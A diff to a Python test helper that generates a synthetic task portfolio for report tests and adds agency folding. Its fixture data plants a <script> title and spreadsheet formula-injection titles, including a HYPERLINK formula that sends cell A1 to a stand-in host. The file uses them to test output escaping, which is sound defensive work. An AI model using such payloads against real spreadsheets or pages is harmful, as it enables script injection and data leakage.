@@ -7,6 +7,7 @@ import time
 from pathlib import Path
 
 import nbformat
+import pandas as pd
 import yaml
 from nbformat.v4 import new_code_cell, new_notebook
 
@@ -19,11 +20,22 @@ HOSTILE_TASK = "HOSTILE-1"
 FORMULA_TITLES = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(1,2)")
 
 
-def write_portfolio(folder: Path) -> Path:
+def fold_agencies(frame: pd.DataFrame, agencies: int) -> pd.DataFrame:
+    """``frame`` with its agencies folded into ``agencies`` named "Agency 1", "Agency 2", ... (the i-th name in
+    sorted order becomes agency i mod ``agencies`` + 1): the same tasks, and a report of that many agency pages at
+    most, where a page per agency costs a kernel execution and a rendering."""
+    names = sorted(frame["agency"].unique())
+    return frame.assign(agency=frame["agency"].map({n: f"Agency {i % agencies + 1}" for i, n in enumerate(names)}))
+
+
+def write_portfolio(folder: Path, agencies: int | None = None) -> Path:
     """A 200-task synthetic portfolio (weekly, Sep - 4 Dec 2025) as CSV exports; the longest overdue task has a
     title holding a ``<script>`` element, and four tasks due by 31 Dec have titles a spreadsheet would run as
-    formulas (:data:`FORMULA_TITLES`)."""
+    formulas (:data:`FORMULA_TITLES`). With ``agencies``, its 34 agencies are folded into that many
+    (:func:`fold_agencies`)."""
     frame = sample.generate(tasks=200, seed=3, start="2025-09-04", until="2025-12-04")
+    if agencies is not None:
+        frame = fold_agencies(frame, agencies)
     last = frame["snapshot_date"].max()
     overdue = frame.loc[(frame["snapshot_date"] == last) & (frame["status"] == schema.OVERDUE)]
     victim = overdue.sort_values("deadline")["task_id"].iloc[0]  # the longest overdue: listed in every report
